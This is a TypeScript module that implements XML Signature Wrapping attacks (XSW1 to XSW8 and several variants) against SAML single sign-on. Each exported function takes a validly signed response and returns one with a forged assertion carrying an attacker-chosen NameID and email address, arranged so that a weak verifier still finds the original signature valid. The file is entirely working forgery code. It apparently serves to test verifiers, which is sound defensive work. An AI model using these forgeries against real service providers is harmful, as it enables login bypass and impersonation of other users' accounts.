/** Signature wrapping: the signed assertion stays in the document, but an unsigned one replaces it. */

interface Forgery {
  nameId: string;
  mail: string;
  /** Whether the forged assertion has the id that the signature refers to. */
  id: 'the same' | 'another';
}

type Wrap = (signed: string, forgery: Forgery) => string;

const ASSERTION = /<saml:Assertion\b.*<\/saml:Assertion>/s;
const SIGNATURE = /<Signature\b.*?<\/Signature>/s;
const original = (xml: string) => ASSERTION.exec(xml)![0];
const signatureOf = (assertion: string) => SIGNATURE.exec(assertion)![0];
const unsigned = (assertion: string) => assertion.replace(SIGNATURE, '');
const insertInto = (assertion: string, content: string) =>
  assertion.replace('</saml:Assertion>', `${content}</saml:Assertion>`);

function forged(xml: string, { nameId, mail, id }: Forgery): string {
  const forgedAssertion = unsigned(original(xml))
    .replace(/(<saml:NameID[^>]*>)[^<]*/, `$1${nameId}`)
    .replace(/(<saml:AttributeValue[^>]*>)[^<]*/, `$1${mail}`);
  return id === 'the same' ? forgedAssertion : forgedAssertion.replace(/ ID="[^"]*"/, ' ID="_forged"');
}

const inPlace = (xml: string, content: string) => xml.replace(ASSERTION, () => content);
const renamed = (response: string) => response.replace(/ ID="[^"]*"/, ' ID="_forged_response"');
const withoutProlog = (xml: string) => xml.replace(/^<\?xml[^>]*\?>/, '');
const responseSignature = (xml: string) => SIGNATURE.exec(xml.replace(ASSERTION, ''))![0];

/** The eight known attacks and some variants. */
export const wrappings: Record<string, Wrap> = {
  'XSW1: the signed response inside the signature of a forged response': (xml, forgery) => {
    const signature = responseSignature(xml);
    const inner = withoutProlog(xml).replace(signature, '');
    const outer = renamed(inPlace(inner, forged(xml, forgery)));
    return signing(outer, signature.replace('</Signature>', `<Object>${inner}</Object></Signature>`));
  },
  'XSW2: the signed response beside its signature in a forged response': (xml, forgery) => {
    const signature = responseSignature(xml);
    const inner = withoutProlog(xml).replace(signature, '');
    return signing(renamed(inPlace(inner, forged(xml, forgery))), inner + signature);
  },
  'XSW3: the forged assertion before the signed one': (xml, forgery) =>
    inPlace(xml, forged(xml, forgery) + original(xml)),
  'XSW4: the signed assertion inside the forged one': (xml, forgery) =>
    inPlace(xml, insertInto(forged(xml, forgery), original(xml))),
  'XSW5: the signature in the forged assertion, the signed one after it': (xml, forgery) =>
    inPlace(xml, signing(forged(xml, forgery), signatureOf(original(xml))) + unsigned(original(xml))),
  'XSW6: the signed assertion inside the signature inside the forged one': (xml, forgery) => {
    const signature = signatureOf(original(xml)).replace(/(<\/SignedInfo>.*)$/s, (rest) =>
      rest.replace('</Signature>', `${unsigned(original(xml))}</Signature>`),
    );
    return inPlace(xml, signing(forged(xml, forgery), signature));
  },
  'XSW7: the forged assertion among extensions': (xml, forgery) =>
    inPlace(xml, `<samlp:Extensions>${forged(xml, forgery)}</samlp:Extensions>${original(xml)}`),
  'XSW8: the signed assertion in an object of the signature of the forged one': (xml, forgery) => {
    const object = `<Object>${unsigned(original(xml))}</Object>`;
    const signature = signatureOf(original(xml)).replace('</Signature>', () => `${object}</Signature>`);
    return inPlace(xml, signing(forged(xml, forgery), signature));
  },
  'the forged assertion after the signed one': (xml, forgery) => inPlace(xml, original(xml) + forged(xml, forgery)),
  'the forged assertion alone, with the signature of the signed one': (xml, forgery) =>
    inPlace(xml, signing(forged(xml, forgery), signatureOf(original(xml)))),
  'a forged subject inside the signed assertion': (xml, forgery) =>
    inPlace(xml, insertInto(original(xml), /<saml:Subject>.*<\/saml:Subject>/s.exec(forged(xml, forgery))![0])),
  'a signed response with the signed assertion exchanged': (xml, forgery) =>
    inPlace(xml, signing(forged(xml, forgery), signatureOf(original(xml)))),
};

/** Inserts a signature after the issuer, as the schema requires. */
function signing(assertion: string, signature: string): string {
  return assertion.replace('</saml:Issuer>', () => `</saml:Issuer>${signature}`);
}
